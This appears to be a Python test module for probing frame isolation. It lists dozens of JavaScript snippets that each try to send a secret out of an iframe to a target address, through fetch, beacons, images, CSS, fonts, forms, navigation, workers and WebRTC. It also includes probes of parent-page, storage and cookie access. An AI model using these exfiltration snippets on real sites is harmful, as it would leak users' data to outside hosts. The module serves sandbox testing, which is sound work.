"""Ways out of a frame. Each is JavaScript that tries to carry `secret` to `target`, an address without an end slash."""

from __future__ import annotations

QUIET = {
    "fetch": "fetch(`${target}/fetch?${secret}`, { mode: 'no-cors' })",
    "fetch-keepalive": """
        fetch(`${target}/fetch-keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: secret })""",
    "xhr": "{ const x = new XMLHttpRequest(); x.open('GET', `${target}/xhr?${secret}`); x.send(); }",
    "websocket": "new WebSocket(`${target}/websocket?${secret}`.replace('http', 'ws'))",
    "eventsource": "new EventSource(`${target}/eventsource?${secret}`)",
    "beacon": "navigator.sendBeacon(`${target}/beacon?${secret}`, secret)",
    "image": "new Image().src = `${target}/image?${secret}`",
    "css": "document.body.style.backgroundImage = `url('${target}/css?${secret}')`",
    "style-element": "add('style').textContent = `body { background: url('${target}/style-element?${secret}') }`",
    "font": "new FontFace('x', `url('${target}/font?${secret}')`).load()",
    "stylesheet": "Object.assign(add('link'), { rel: 'stylesheet', href: `${target}/stylesheet?${secret}` })",
    "prefetch": "Object.assign(add('link'), { rel: 'prefetch', href: `${target}/prefetch?${secret}` })",
    "preload": "Object.assign(add('link'), { rel: 'preload', as: 'image', href: `${target}/preload?${secret}` })",
    "icon": "Object.assign(add('link'), { rel: 'icon', href: `${target}/icon?${secret}` })",
    "script": "add('script').src = `${target}/script?${secret}`",
    "import": "import(`${target}/import?${secret}`)",
    "video": "add('video').src = `${target}/video?${secret}`",
    "object": "add('object').data = `${target}/object?${secret}`",
    "embed": "add('embed').src = `${target}/embed?${secret}`",
    "nested-frame": "add('iframe').src = `${target}/nested-frame?${secret}`",
    "worker-by-url": "new Worker(`${target}/worker-by-url?${secret}`)",
}
"""These leave the frame where it is, so that all can be tried in one."""

LOUD = {
    "self-navigation": "location.href = `${target}/self-navigation?${secret}`",
    "link": "{ const a = add('a'); a.href = `${target}/link?${secret}`; a.click(); }",
    "refresh": "Object.assign(add('meta'), { httpEquiv: 'refresh', content: `0;url=${target}/refresh?${secret}` })",
    "form": """
        { const f = Object.assign(add('form'), { action: `${target}/form`, method: 'POST' });
          f.append(input(secret)); f.submit(); }""",
    "form-in-tab": """
        { const f = Object.assign(add('form'), { action: `${target}/form-in-tab`, target: '_blank' });
          f.append(input(secret)); f.submit(); }""",
    "popup": "open(`${target}/popup?${secret}`)",
    "top-navigation": "top.location.href = `${target}/top-navigation?${secret}`",
}
"""These may replace the frame or the page, so each needs one of its own."""

PROBES = {
    "parent-page": "parent.document.body.dataset.stolen = secret",
    "local-storage": "localStorage.setItem('stolen', secret)",
    "session-storage": "sessionStorage.setItem('stolen', secret)",
    "indexed-db": "indexedDB.open('stolen')",
    "cookie": "{ document.cookie = `stolen=${encodeURIComponent(secret)}`; if (!document.cookie) throw Error(); }",
}
"""These are open where they do not throw."""

WORKER = {
    "worker-fetch": "fetch(`${target}/worker-fetch?${secret}`, { mode: 'no-cors' })",
    "worker-real-fetch": "WorkerGlobalScope.prototype.fetch?.call(self, `${target}/worker-real-fetch?${secret}`)",
    "worker-xhr": "{ const x = new XMLHttpRequest(); x.open('GET', `${target}/worker-xhr?${secret}`); x.send(); }",
    "worker-websocket": "new WebSocket(`${target}/worker-websocket?${secret}`.replace('http', 'ws'))",
    "worker-import": "import(`${target}/worker-import?${secret}`)",
    "worker-scripts": "WorkerGlobalScope.prototype.importScripts.call(self, `${target}/worker-scripts?${secret}`)",
}

WEBRTC = """
const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
peer.createDataChannel("x");
await peer.setLocalDescription(await peer.createOffer());
"""

_TOOLS = """
const add = tag => document.body.appendChild(document.createElement(tag));
const input = value => Object.assign(document.createElement("input"), { name: "stolen", value });
"""


def function(statement: str) -> str:
    """A function of `[target, secret, port]` that tells whether the statement ran through."""
    return f"""async ([target, secret, port]) => {{
        {_TOOLS}
        try {{ {statement}; return true; }} catch {{ return false; }}
    }}"""
